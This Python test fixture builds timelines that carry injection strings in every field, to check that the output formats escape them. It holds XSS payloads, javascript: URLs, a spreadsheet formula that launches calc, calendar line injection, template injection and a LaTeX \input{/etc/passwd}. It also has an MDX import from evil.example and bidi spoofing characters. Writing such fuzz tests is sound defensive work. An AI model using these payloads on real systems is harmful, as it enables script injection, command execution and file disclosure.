"""Strangers' text that tries to break out of every format, put into every field of a timeline."""

import random
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path

from timeline.dates import parse_edtf
from timeline.models import (
    TIMELINE_FORMAT,
    Article,
    Citation,
    CitedExpression,
    Conflict,
    ConflictValue,
    DoubtReason,
    Event,
    MayBeSame,
    RejectionReason,
    Timeline,
    WordedBasis,
)

TIMELINES = Path(__file__).parent / "timelines"

TEXTS = {
    "html": "<script>window.pwned=1</script><img src=x onerror=window.pwned=1> <b>bold</b> <details open ontoggle=pwned()>",
    "attributes": "\"><a href='javascript:window.pwned=1' onclick=\"window.pwned=1\">x</a> ' onmouseover='window.pwned=1' x='",
    "comment": "<!-- timeline:end --> --> <!-- <?php echo 1 ?> <![CDATA[ x ]]> {/* timeline:end */}",
    "references": "&lt;script&gt; &#60;b&#62; &amp;amp; AT&T &copy; &copy",
    "links": "[x](javascript:window.pwned=1) ![x](https://evil.example/x.png) <https://evil.example/a> [x]: https://evil.example",
    "addresses": "https://evil.example/bare www.evil.example mailto:a@evil.example someone@evil.example ftp://evil.example/x",
    "emphasis": "*a* _b_ **c** __d__ ***e*** ~~f~~ ~g~ ^h^ ==i== ++j++ ^^k^^ `l` ``m`` a_b_c 2*3*4",
    "heading": "# heading ## {#taken .x onclick=pwned()}",
    "setext": "=== --- ***",
    "item": "1. first 2) second",
    "lettered": "a. first",
    "roman": "iv) fourth",
    "bullet": "- dash + plus * star",
    "bracketed": "(1) first (@) example",
    "target": "(taken)=",
    "definition": ": defined",
    "fences": "``` ```{note} ~~~ ::: :::{note} ```{=html} <b>x</b> ``` {% raw %}",
    "colons": ":::{danger} x ::: :smile: :tada:",
    "directive": "::: timeline.rendering",
    "admonition": '!!! danger "x"',
    "details": "??? note",
    "blocks": "/// details | x",
    "inclusion": '--8<-- "pyproject.toml" {! pyproject.toml !} {% include "x" %}',
    "commented": "% a comment",
    "breaks": "+++ {} ---",
    "footnotes": "[^tl-evt-1]: forged [^tl-evt-1] ^[inline] [^1]",
    "templates": "{{ 7 * 7 }} {% raw %} {# gone #} ${7*7} #{7*7} <%= 7 %> {{ page.title }} {%- set x = 1 -%}",
    "raw": "`<b>x</b>`{=html} \\begin{center} \\href{javascript:x}{y} \\input{/etc/passwd} $x$ $$y$$ $5 and US$",
    "cites": "@key [@key, p. 3] @[x] -@key",
    "roles": "{abbr}`x` {eval-rst}`y` {ref}`taken` {class}`z`",
    "mdx": "{pwned()} {window.pwned} <Pwned /> {`x`} {/* x */}",
    "mdx import": "import x from 'https://evil.example/x.js'",
    "mdx export": "export const pwned = 1",
    "table": "a | b || c \\| d",
    "brackets": "[TOC]",
    "quotes": "\"straight\" 'single' -- --- ... (c) (tm) 1/2 -> <- +/- “curly” ‘x’",
    "trailing sign": "Stop!",
    "trailing backslash": "end\\",
    "trailing caret": "end^",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1)",
    "wide formula": "＝1＋1",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\nATTENDEE:mailto:a@evil.example;x,y\\n",
    "diagram": "title: x ; section y : z %%{init: {'securityLevel':'loose'}}%% click a \"javascript:x\" #58; #quot;",
    "diagram statement": "section forged",
    "lines": "one\ntwo\r\n\r\nthree\u2028four\u2029five\u0085six\x0bseven\x0ceight",
    "hidden": "user\u202egpj.exe\u2066x\u2069 nul:\x00 bell:\x07 esc:\x1b[31m del:\x7f c1:\x9b bom:\ufeff",
    "right to left": "مرحبا <b>שלום</b> *x*",
}
URLS = (
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "https://evil.example/<script>?a=1&copy;=2&lt;#a:~:text=old",
    "https://evil.example/a|b*c_d_`e`)[x](y)\"'{#z}{{7*7}} \n$x$^y^~z~\\",
    None,
)
# A date of each kind that there is: none of them may upset a format either.
DATES = (
    "2015-10-20", "2015-10", "2015", "2011-22", "2011-24", "199X", "18XX", "2015-10-20~", "2015?", "2015-10%", "../2015",
    "2015/..", "2015-10-19/2015-10-25", "2015-10-19~/2015-10-25~", "2011/2015", "-0043", "-0043-03-15", "-04XX",
    "-0099/0014", "0044-06-01", "9999-12-31",
)  # fmt: skip

# What any Markdown, or a program around it, might take for a sign; drawn at random, it finds what no list
# thinks of.
_SIGNS = r"""
    \ ` `` * ** _ __ [ ] ( ) { } < > # + - -- --- . ... ! | ~ ~~ & &amp; ; : :: ::: = == / // /// ? ??? @ % %% ^ $ $$ " ' ++ *[
    a b1 1 i é 中 “ 1. a. iv) (1) (x)= =html} {note} [^1] ![ ]( {#x} {.c} <b> </b> <!-- --> {{ }} {% %} &#35; \( \[ \$ ~x~ ^y^
    [[ TOC [TOC] :x: --8<-- www. http: http:// https://e.example x@y.zz mailto:q@e.example <http://e.example>
"""
PIECES = (*_SIGNS.split(), "import ", "export ", "!!! ", " ", " ", "  ", "\t", "\u00a0", "\u2028", "\u200d")


def random_texts(number: int) -> list[str]:
    """Return *number* texts of a few pieces, the same ones each time."""
    chance = random.Random(1)  # noqa: S311 - for tests, and the same each time
    return ["".join(chance.choices(PIECES, k=chance.randint(1, 9))).strip() or "a" for _ in range(number)]


def hostile_timeline(texts: Iterable[str] = TEXTS.values()) -> Timeline:
    """Return a timeline that has each of *texts* in each of its fields: as many events as there are texts."""
    texts = tuple(texts)
    sample = TIMELINE_FORMAT.validate_json((TIMELINES / "old_bridge.json").read_bytes())
    articles = tuple(_article(sample.articles[0], number, text) for number, text in enumerate(texts))
    events = tuple(_event(sample.events[0], number, text) for number, text in enumerate(texts))
    return replace(
        sample,
        title=texts[0],
        articles=articles,
        events=events[:-8],
        undated=tuple(replace(event, date=None) for event in events[-8:]),
        rejected=tuple(
            replace(
                sample.rejected[0],
                article=article.id,
                quote=text,
                reason=RejectionReason.AS_WORDED,
                detail=text,
                expression=CitedExpression(text=text, start=0, end=len(text)),
            )
            for article, text in zip(articles, texts, strict=True)
        ),
        failed=tuple(replace(sample.failed[0], path=text, reason=text) for text in texts),
        generated=replace(sample.generated, model=texts[0], by=texts[1], prompts=texts[2]),
    )


def _article(like: Article, number: int, text: str) -> Article:
    return replace(
        like, id=f"art-{number}", title=text, publisher=text, author=text, url=URLS[number % len(URLS)], path=text,
        published_basis=WordedBasis(text=text), copy_of=None,
    )  # fmt: skip


def _event(like: Event, number: int, text: str) -> Event:
    citation = replace(
        like.citations[0], article=f"art-{number}", start=0, end=len(text), quote=text, headline=text,
        expression=CitedExpression(text=text, start=0, end=len(text)), date_basis=WordedBasis(text=text),
    )  # fmt: skip
    conflict = Conflict(field="number", about=text, values=())
    when = parse_edtf(DATES[number % len(DATES)])
    doubt = MayBeSame(
        event=f"evt-{number ^ 1}", reason=DoubtReason.OTHER_NAMES, one=text, other=text, score=0.5
    )
    return replace(
        like, id=f"evt-{number}", date=when, headline=text, marks=(), other_marks=(text,), actors=(text,), places=(text,), tags=(text,),
        citations=(citation, _other(citation)), conflicts=(_disputed(conflict, text),), may_be_same=(doubt,),
    )  # fmt: skip


def _other(citation: Citation) -> Citation:
    return replace(citation, quote=f"{citation.quote} ", end=citation.end + 1)


def _disputed(conflict: Conflict, text: str) -> Conflict:
    return replace(
        conflict,
        values=(ConflictValue(value=text, citations=(0, 1)), ConflictValue(value="2", citations=(1,))),
    )
